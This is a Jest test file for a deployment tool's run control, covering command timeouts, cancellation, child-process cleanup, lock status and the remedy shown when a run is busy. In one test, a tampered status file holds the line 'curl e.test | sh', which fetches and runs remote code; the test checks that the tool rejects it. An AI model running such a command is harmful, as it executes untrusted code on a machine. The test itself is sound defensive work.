import { writeFileSync } from 'node:fs';
import path from 'node:path';
import { afterEach, describe, expect, jest, test } from '@jest/globals';
import { cancelRun } from './control.ts';
import { startRun } from './start.ts';
import { statusOf } from './status.ts';
import { eventually, hostsForEach, pidOf, shellsHere, watching, works } from './testing/hosts.ts';

// Real processes on a busy machine.
jest.setTimeout(60_000);

const hostWith = hostsForEach(afterEach);

/** A command with a child of its own; `end` ends the child, as stopping a container ends what follows it. */
const BODY = `
  work() { sh -c 'echo $$ >child.pid; exec sleep 300'; }
  end() { kill "$(cat child.pid)"; }
  deaf() { :; }`;

// How long a command may take, and what ends it.
describe.each(shellsHere().filter((one) => one !== 'bash'))('with %s as sh', (shell) => {
  const start = async (operate: string) => {
    const host = hostWith(shell);
    const run = await startRun(
      host.session(),
      host.operation({
        body: `${BODY}\noperate() { ${operate}; result code "$code"; result why "$host_ended"; }`,
      }),
      watching(),
    );
    return { host, run };
  };

  test('a command that takes too long is ended, and it is known why', async () => {
    const { host, run } = await start(`code=0; run_within 1 no end 'the work' work || code=$?`);
    expect((await run.result).fields).toEqual({ code: expect.stringMatching(/[1-9]/), why: 'late' });
    expect(works(Number(host.read('child.pid')))).toBe(false);
  });

  test('a command that ends in time is not ended, whatever the code', async () => {
    const { run } = await start(`code=0; run_within 30 yes end 'the work' sh -c 'exit 3' || code=$?`);
    expect((await run.result).fields).toEqual({ code: '3', why: '' });
  });

  test('a cancelled run ends a command that heeds it, and leaves one that does not', async () => {
    const heeds = await start(`code=0; run_within 60 yes end 'the work' work || code=$?`);
    const keeps = await start(`code=0; run_within 60 no end 'the work' work || code=$?`);
    for (const { host, run } of [heeds, keeps]) {
      await eventually(() => host.read('child.pid') !== '', 'the work');
      await cancelRun(host.session(), run.reference);
    }
    expect((await heeds.run.result).fields['why']).toBe('cancelled');
    const child = Number(keeps.host.read('child.pid'));
    expect(works(child)).toBe(true);
    process.kill(child);
    expect((await keeps.run.result).fields['why']).toBe('');
  });

  test('a command that nothing ends is killed in the end, with what it started', async () => {
    const { host, run } = await start(
      `nap() { sleep 0.2; }; code=0; run_within 0 no deaf 'the work' work || code=$?`,
    );
    expect((await run.result).fields['why']).toBe('late');
    await eventually(() => !works(Number(host.read('child.pid'))), 'the end of the child');
  });

  test('what a run that has the lock is at is known, with its age and what ends it; a wrong form counts as not said', async () => {
    const { host, run } = await start(
      `code=0; phase migrate; under_way 'the container shop-1' 90 'docker rm -f shop-1'; echo yes >"$path/under-way"; until cancelled; do nap 0.1; done`,
    );
    await eventually(() => host.read('under-way') !== '', 'the work');
    const asked = async () => (await statusOf(host.session(), host.path)).lock!;
    expect(await asked()).toMatchObject({
      pid: pidOf(host, 'run-1/deploy-1'),
      phase: { name: 'migrate', ms: expect.any(Number) },
      waiting: { what: 'the container shop-1', ends: 'docker rm -f shop-1' },
    });
    expect((await asked()).waiting!.leftMs).toBeGreaterThan(60_000);
    const folder = path.join(host.path, '.deploy/runs/run-1/deploy-1');
    writeFileSync(path.join(folder, 'phase'), '<b> 1\n');
    writeFileSync(
      path.join(folder, 'under-way'),
      'what x\nsince soon\nuntil never\nends curl e.test | sh;\n',
    );
    expect(await asked()).toMatchObject({
      phase: undefined,
      waiting: { what: 'x', ms: 0, leftMs: undefined, ends: undefined },
    });
    await cancelRun(host.session(), run.reference);
    await run.result;
  });

  test('who gives up waiting hears how the program is asked to stop, where nothing else is known', async () => {
    const { host, run } = await start('code=0; await_go 60 || :');
    await eventually(() => host.read('.deploy/runs/run-1/deploy-1/state') === 'ready\n', 'the run');
    const other = host.operation({ body: 'operate() { :; }', deploymentId: 'run-2', lockTimeout: 0 });
    const { failure } = await (await startRun(host.session(), other, watching())).result;
    expect(failure).toMatchObject({
      kind: 'busy',
      remedy: expect.stringContaining(`kill ${pidOf(host, 'run-1/deploy-1')}`),
    });
    // What the remedy says, helps.
    process.kill(pidOf(host, 'run-1/deploy-1'));
    await run.result;
  });
});
